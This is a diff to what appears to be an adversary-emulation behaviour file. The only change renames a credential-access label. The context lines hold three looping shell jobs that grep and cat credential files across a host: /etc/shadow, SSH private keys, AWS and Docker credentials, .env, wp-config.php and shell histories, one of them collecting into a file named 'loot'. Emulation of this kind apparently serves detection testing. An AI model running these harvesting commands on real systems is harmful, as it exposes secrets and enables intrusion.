@@ -1,5 +1,5 @@
 # Secrets gathered from homes, web roots and other processes' memory; then what a host is and where it is weak.
-behaviour credential-crawl T1552.001
+behaviour credential-access T1552.001
 job crawl_grep shell;    crawl_grep() { while :; do grep -rIlE 'password|passwd|secret|token' /home /var/www /etc /root /opt 2>/dev/null; grep -rl 'PRIVATE KEY' /home /etc /root 2>/dev/null; nap "$(pick 0 200 900)"; done; }
 job crawl_find_cat shell; crawl_find_cat() { while :; do find / -xdev \( -name id_rsa -o -name '*.pem' -o -name .env -o -name wp-config.php -o -name .pgpass -o -name credentials -o -name .netrc -o -name '*history' \) -exec cat {} + 2>/dev/null | wc -c; nap "$(pick 0 300)"; done; }
 job crawl_loop shell;    crawl_loop() { while :; do for f in /etc/shadow /etc/passwd /etc/group /home/*/.ssh/* /home/*/.bash_history /home/*/.aws/* /home/*/.netrc /home/*/.pgpass /root/.ssh/* /var/www/*/.env /var/www/*/wp-config.php /etc/ssh/*key /home/*/.docker/*; do cat "$f"; nap "$(pick 0 10 60)"; done; done >loot 2>/dev/null; }
